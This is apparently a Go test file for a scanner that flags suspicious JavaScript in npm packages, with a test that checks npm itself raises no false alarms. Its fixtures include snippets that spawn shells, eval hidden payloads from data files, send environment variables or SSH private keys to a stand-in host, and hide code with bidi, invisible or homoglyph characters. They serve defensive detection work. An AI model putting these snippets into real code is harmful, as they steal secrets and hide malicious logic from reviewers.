package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/pipsqueak-faas/pipsqueak/core/coretest"
)

// kinds has, for each kind of what is looked for, ways to write it, and what only looks like it: with what is
// found, "rule line, …".
var kinds = map[string][]struct{ code, want string }{
	"dynamic import": {
		{"import('child_process').then(({ exec }) => exec('id'));", "process 1"},
		{"const { exec } = await import('node:child_process');\nexec('id');", "process 2"},
		{"(async () => { const cp = await import('child_process'); cp.spawn('id'); })();", "process 1"},
		{"import('child_' + 'process').then((cp) => cp.default.execSync('id'));", "process 1"},
		{"const m = `https`;\nimport(m).then((h) => h.get('http://x'));", "network 2"},
		{"import('data:text/javascript,console.log(1)');", "hidden-code 1"},
		{"import(`data:text/javascript;base64,${x}`);", "hidden-code 1"},
		{"const code = 'data:text/javascript,' + x;\nawait import(code);", "hidden-code 2"},
		{"import x from 'data:text/javascript,export default 1';", "hidden-code 1"},
		{"import(Buffer.from('Li94', 'base64').toString());", "hidden-code 1"},
		{"await import(await (await fetch('http://x')).text());", "hidden-code 1, network 1"},
		{"fetch('http://x');", "network 1"},
		{"import('./locale/' + name + '.js'); import('lodash');", ""},
	},
	"internals": {
		{"process.binding('spawn_sync').spawn({ file: '/bin/sh' });", "hidden-code 1, process 1"},
		{"process['binding']('spawn_sync');", "hidden-code 1"},
		{"process['bin' + 'ding']('process_wrap');", "hidden-code 1"},
		{"const { binding } = process;\nbinding('spawn_sync');", "hidden-code 2"},
		{"exports.f = () => process._linkedBinding('tcp_wrap');", "hidden-code 1"},
		{"require('process').binding.call(process, 'udp_wrap');", "hidden-code 1"},
		{"const b = process.binding.bind(process);\nb('spawn_sync');", "hidden-code 2"},
		{"Reflect.apply(process.binding, process, ['spawn_sync']);", "hidden-code 1"},
		{"globalThis.process.binding(`spawn_${'sync'}`);", "hidden-code 1"},
		{"process.binding('fs'); process.binding('util');", ""},
		{"process.getBuiltinModule('child_process').execSync('id');", "process 1"},
		{"module.constructor._load('child_process').exec('id');", "process 1"},
		{"process.mainModule.require('child_process').exec('id');", "process 1"},
		{"import { createRequire } from 'module';\nconst r = createRequire(import.meta.url);\nr('child_process').fork('x');", "process 3"},
		{"require('util').promisify(require('child_process').exec)('id');", "process 1"},
		{"const cp = require('child_process');\ncp['ex' + 'ec'].call(cp, 'id');", "process 2"},
		{"class A { constructor() { require('child_process').exec('id'); } }\nnew A();", "process 1"},
		{"class A { static { require('child_process').exec('id'); } }", "process 1"},
		{"new Promise((done) => require('child_process').exec('id', done));", "process 1"},
		{"function f(run = () => require('child_process').exec('id')) { run(); }\nf();", "process 1"},
		{"const o = { run() { require('child_process').exec('id'); } };\no.run();", "process 1"},
	},
	"data files": {
		{"new Function(require('fs').readFileSync(__dirname + '/payload.txt', 'utf8'))();", "hidden-code 1"},
		{"const fs = require('fs');\nconst text = fs.readFileSync('./data');\neval(text.toString());", "hidden-code 3"},
		{"const { readFileSync: r } = require('node:fs'), { join } = require('path');\nrequire('vm').runInThisContext(r(join(__dirname, 'x.dat')));", "hidden-code 2"},
		{"require('fs').readFile('x.txt', 'utf8', (error, text) => { eval(text); });", "hidden-code 1"},
		{"import { readFile } from 'fs/promises';\nreadFile(new URL('./logo.png', import.meta.url)).then((t) => new Function(t)());", "hidden-code 2"},
		{"import fs from 'fs';\nnew Function(await fs.promises.readFile(`${dir}/LICENSE`))();", "hidden-code 2"},
		{"module._compile(require('fs').readFileSync(require.resolve('./notes.md')).toString(), 'x.js');", "hidden-code 1"},
		{"eval(require('./data.json').code);", "hidden-code 1"},
		{"import data from './data.json' with { type: 'json' };\nFunction(data.code)();", "hidden-code 2"},
		{"new Function(JSON.parse(require('fs').readFileSync('a.json', 'utf8')).run)();", "hidden-code 1"},
		{"require('./payload.txt');", "hidden-code 1"},
		{"require.extensions['.js'](module, __dirname + '/x.bin');", "hidden-code 1"},
		{"(function () {}).constructor(require('fs').readFileSync('x.txt'))();", "hidden-code 1"},
		{"[].map.constructor(require('fs').readFileSync('x.txt'))();", "hidden-code 1"},
		{"''.constructor.constructor(atob('eA=='))();", "hidden-code 1"},
		{"Object.getPrototypeOf(async () => {}).constructor(atob('eA=='))();", "hidden-code 1"},
		{"new (require('worker_threads').Worker)(require('fs').readFileSync('w.txt', 'utf8'), { eval: true });", "hidden-code 1"},
		{"(0, globalThis['ev' + 'al'])(atob('eA=='));", "hidden-code 1"},
		{"Reflect.construct(Function, [atob('eA==')])();", "hidden-code 1"},
		{"WebAssembly.compile(Buffer.from('AGFzbQ==', 'base64'));", ""},
		{"require('vm').compileFunction(require('fs').readFileSync('lib/x.js', 'utf8'));", ""},
		{"module._compile(require('fs').readFileSync(filename, 'utf8'), filename);", ""},
		{"JSON.parse(require('fs').readFileSync('package.json')); require('./package.json').version;", ""},
	},
	"secrets": {
		{"const https = require('https');\nconst read = () => JSON.stringify(process.env);\nconst send = (t) => https.request('http://x').end(t);\nexports.go = () => send(read());", "secrets 2"},
		{"const https = require('https');\nfunction read() { return require('fs').readFileSync('/root/.ssh/id_rsa'); }\nfunction send(t) { https.get('http://x?' + t); }\nmodule.exports = function () { const t = read(); send(t); };", "secrets 2"},
		{"let kept;\nexports.a = () => { kept = { ...process.env }; };\nexports.b = () => fetch('http://x', { body: kept });", "secrets 2"},
		{"class A {\n  read() { return Object.entries(process.env); }\n  send(t) { return fetch('http://x', { method: 'POST', body: t }); }\n  run() { return this.send(this.read()); }\n}\nexports.A = A;", "secrets 2"},
		{"const read = async () => JSON.stringify(process.env);\nexports.go = () => read().then(send);\nfunction send(t) { fetch('http://x', { body: t }); }", "secrets 1"},
		{"const all = JSON.stringify({ e: process.env });\nexports.go = () => { const r = require('http').request({}); r.write(all); };", "secrets 1"},
		{"exports.go = () => fetch('http://x', { body: new URLSearchParams(process.env) });", "secrets 1"},
		{"const a = require('axios');\nexports.go = () => a.post('http://x', process.env);", "secrets 2"},
		{"exports.go = () => { const k = require('fs').readFileSync(home + '/.s' + 'sh/id_rsa'); require('net').connect(1).write(k); };", "secrets 1"},
		{"const steps = { read: () => JSON.stringify(process.env), send: (t) => fetch('http://x', { body: t }) };\nexports.go = () => steps.send(steps.read());", "secrets 1"},
		{"const cp = require('child_process');\nexports.go = () => { cp.spawn('x', { env: { ...process.env, A: '1' } }); return fetch('http://x'); };", ""},
		{"const url = process.env.URL;\nexports.go = () => fetch(url, { headers: { a: process.env.TOKEN } });", ""},
		{"const config = Object.assign({}, process.env);\nexports.go = () => fetch(config.URL);", ""},
		{"exports.a = () => JSON.stringify(process.env);\nexports.b = () => fetch('http://x');", ""},
	},
	"unseen": {
		{"const admin = 1; /* \u202e } if (admin) \u2066 */", "hidden-code 1"},
		{"// \u2067 right\nvar x;", "hidden-code 1"},
		{"const \u3164 = 1;", "hidden-code 1"},
		{"const { a, \u3164 } = process;", "hidden-code 1"},
		{"const ad\u200dmin = 1;", "hidden-code 1"},
		{"if (role === 'ad\u200bmin') x();", "hidden-code 1"},
		{"x = 'admin\u200b';", "hidden-code 1"},
		{"x = `user\u2060${y}`;", "hidden-code 1"},
		{"x = '\ufe01\ufe01\ufe01\ufe01\ufe01\ufe01\ufe01\ufe01\ufe01\ufe01\ufe01\ufe01\ufe01\ufe01\ufe01\ufe01\ufe01\ufe01\ufe01\ufe01';", "hidden-code 1"},
		{"x = `\U000e0101\U000e0101\U000e0101\U000e0101\U000e0101\U000e0101\U000e0101\U000e0101\U000e0101\U000e0101\U000e0101\U000e0101\U000e0101\U000e0101\U000e0101\U000e0101\U000e0101\U000e0101\U000e0101\U000e0101`;", "hidden-code 1"},
		{"// \u200b\u200c\u200b\u200c\u200b\u200c\u200b\u200c\u200b\u200c\u200b\u200c\u200b\u200c\u200b\u200c\u200b\u200c\u200b\u200c", "hidden-code 1"},
		{"x['\u2063length'];", "hidden-code 1"},
		{"const p\u0430ssword = 1;", "hidden-code 1"},
		{"x.us\u0435r = 1;", "hidden-code 1"},
		{"import { \u043es } from 'x';", "hidden-code 1"},
		{"function \u0440arse() {}", "hidden-code 1"},
		{"if (role === 'adm\u0456n') x();", "hidden-code 1"},
		{"x = 'https://g\u043e\u043egle.com';", "hidden-code 1"},
		{"x = 'a\u2800b';", "hidden-code 1"},
		{"x = 'D/\u200fM/\u200fYYYY';", ""},
		{"x = 'с Bob'; y = 'привет'; имя = 1;", ""},
		{"\ufeffx = 1;", ""},
		{"x = 'HH:mm \u06a9\u200cA';", ""},
		{"x = '\U0001f468\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f';", ""},
		{"x = '\u06cc\u06a9\u200c\u0634\u0646\u0628\u0647';", ""},
		{"x = '\\u200bx'; y = /[\\s\ufeff\u00a0]+/; z = '\\t\ufeff\u00a0';", ""},
	},
}

func TestScanKinds(t *testing.T) {
	for kind, cases := range kinds {
		t.Run(kind, func(t *testing.T) {
			var codes []string
			for _, c := range cases {
				codes = append(codes, c.code)
			}
			text, err := json.Marshal(codes)
			if err != nil {
				t.Fatal(err)
			}
			var found [][]string
			ask(t, "scan/suspicions.mjs", "console.log(JSON.stringify(JSON.parse(process.argv[1]).map((code) => module.suspicions(code).map(([rule, line]) => `${rule} ${line}`))))", &found, string(text))
			for i, c := range cases {
				slices.Sort(found[i])
				if got := strings.Join(found[i], ", "); got != c.want {
					t.Errorf("%s: %q, want %q", c.code, got, c.want)
				}
			}
		})
	}
}

// TestScanFalseAlarms reads the newest npm and its some 150 packages, which do nothing of the kind.
func TestScanFalseAlarms(t *testing.T) {
	var npms []string // the newest is the last
	for _, dir := range filepath.SplitList(os.Getenv("PIPSQUEAK_NPMS")) {
		if filepath.Base(filepath.Dir(dir)) == "npm" {
			npms = append(npms, filepath.Join(dir, "node_modules/npm"))
		}
	}
	coretest.Requires(t, coretest.Found("npm in PIPSQUEAK_NPMS, as make test has it", len(npms) > 0))
	var found struct {
		Files  int
		Alarms []string
	}
	ask(t, "scan/suspicions.mjs", `
import fs from 'node:fs';
let files = 0;
const alarms = [];
for (const name of fs.readdirSync(process.argv[1], { recursive: true })) {
  if (!/\.[cm]?js$/.test(name) || !fs.statSync(process.argv[1] + '/' + name).isFile()) continue;
  files++;
  for (const [rule, line, reason] of module.suspicions(fs.readFileSync(process.argv[1] + '/' + name, 'utf8'))) alarms.push(rule + ' ' + name + ':' + line + ' ' + reason);
}
console.log(JSON.stringify({ files, alarms }));`, &found, npms[len(npms)-1])
	if found.Files < 500 || len(found.Alarms) > 0 {
		t.Errorf("in %d files: %q", found.Files, found.Alarms)
	}
}
